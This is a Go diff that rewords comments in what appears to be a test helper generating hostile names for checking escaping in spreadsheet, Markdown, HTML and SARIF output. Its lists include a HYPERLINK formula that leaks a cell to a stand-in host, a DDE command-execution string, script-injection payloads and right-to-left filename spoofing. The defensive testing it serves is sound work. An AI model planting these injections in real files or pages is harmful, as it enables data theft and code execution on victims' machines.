@@ -5,9 +5,9 @@ import (
 	"strings"
 )
 
-// Names gives n different names as strangers could choose them for records,
-// rules and applications: each begins or ends with something that has a meaning
-// in one of the formats. The same n gives the same names.
+// Names returns n different names as outsiders could choose them for records, rules and applications:
+// each begins or ends with something that has a meaning in one of the formats. The same n gives the
+// same names.
 func Names(n int) []string {
 	seeds := hostile()
 	out, taken := make([]string, 0, n), make(map[string]bool, n)
@@ -24,7 +24,7 @@ func Names(n int) []string {
 	return out
 }
 
-// combined puts two names together in the i-th way.
+// combined joins two names in the i-th way.
 func combined(a, b string, i int) string {
 	switch i % 5 {
 	case 0:
@@ -45,7 +45,7 @@ func hostile() []string {
 	return append(all, encodings()...)
 }
 
-// formulas are what spreadsheets may calculate.
+// formulas are texts that spreadsheets may evaluate.
 func formulas() []string {
 	return []string{
 		"=1+1", `=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)", "\t=1+1", "\r=1+1", "\n=1+1",
@@ -54,7 +54,7 @@ func formulas() []string {
 	}
 }
 
-// markups are what Markdown, HTML and SARIF give a meaning to.
+// markups are texts with a meaning in Markdown, HTML or SARIF.
 func markups() []string {
 	return []string{
 		"[click](https://evil.example)", "![x](https://evil.example/x.png)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
@@ -72,7 +72,7 @@ func markups() []string {
 	}
 }
 
-// encodings are texts that are long, empty of sense or hard to show.
+// encodings are texts that are long, meaningless or hard to display.
 func encodings() []string {
 	return []string{
 		"a\x00b", "\x1b[31mred", "\u202Egnp.exe", "zero\u200Bwidth", "\uFEFFbom", "line\u2028sep\u2029par", "\u0085nel", "é日本語😀",
